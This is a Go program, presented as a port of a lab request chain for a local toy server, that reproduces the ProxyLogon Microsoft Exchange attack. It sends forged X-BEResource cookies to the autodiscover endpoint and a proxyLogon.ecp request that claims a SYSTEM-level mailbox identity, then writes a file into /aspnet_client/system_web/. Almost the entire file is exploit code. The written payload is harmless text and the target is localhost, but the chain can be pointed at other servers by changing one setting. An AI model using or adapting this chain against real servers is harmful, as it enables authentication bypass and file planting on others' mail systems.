// Go + resty port of the lab request chain (toy server on 127.0.0.1 only).
// resty keeps headers in a map: the wire order is Go's (sorted), names canonicalised.
package main

import (
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/go-resty/resty/v2"
)

const (
	chrome   = "88.0.4324.190"
	domain   = "lab.invalid"
	noteDir  = "/aspnet_client/system_web/"
	noteFile = "readme_91453.txt"
	ticket   = 1843073522
)

var agent = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" + chrome + " Safari/537.36"

func browser() map[string]string {
	return map[string]string{
		"User-Agent":       agent,
		"x-requested-with": "XMLHttpRequest",
		"Accept":           "*/*",
		"accept-language":  "en-US,en;q=0.9",
		"connection":       "close",
	}
}

func main() {
	port := "8080"
	if len(os.Args) > 1 {
		port = os.Args[1]
	}
	client := resty.New().
		SetBaseURL("http://127.0.0.1:" + port).
		SetTimeout(10 * time.Second).
		SetRetryCount(5)

	cookie := fmt.Sprintf("X-AnonResource=true; X-AnonResource-Backend=%s; X-BEResource=localhost@%s/ews/exchange.asmx?a%%3D~%d", domain, domain, ticket)
	probe, err := client.R().
		SetHeaders(browser()).
		SetHeader("cookie", cookie).
		SetQueryString("Pad=" + strings.Repeat("A", 37) + "&Protocol=Autodiscoverv1&Email=administrator%40" + domain + "%2Fmapi%2Fnspi&RequestId=20200302-7720").
		Get("/autodiscover/autodiscover.json")
	if err != nil || probe.StatusCode() >= 500 {
		os.Exit(1)
	}

	ident, err := client.R().
		SetHeader("user-agent", agent).
		SetHeader("msexchlogonmailbox", "S-1-5-20").
		SetHeader("content-type", "application/json").
		SetHeader("X-BEResource", "localhost@"+domain+"/ecp/proxyLogon.ecp").
		SetBody(`{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}`).
		Post("/ecp/proxyLogon.ecp")
	who := "anonymous"
	if err == nil && ident.StatusCode() == 200 {
		if s := strings.TrimSpace(ident.String()); s != "" {
			who = s
		}
	}

	lines := make([]string, 0, 3)
	for i := 1; i <= 3; i++ {
		lines = append(lines, fmt.Sprintf("note %d of 3 for %s", i, who))
	}
	_, _ = client.R().
		SetHeader("user-agent", agent).
		SetHeader("X-Note-Path", noteDir+noteFile).
		SetHeader("Content-Type", "text/plain").
		SetBody(strings.Join(lines, "\n")).
		Post(noteDir + noteFile)

	back, err := client.R().SetHeaders(browser()).Get(noteDir + noteFile)
	if err == nil {
		fmt.Println(len(back.Body()))
	}
}
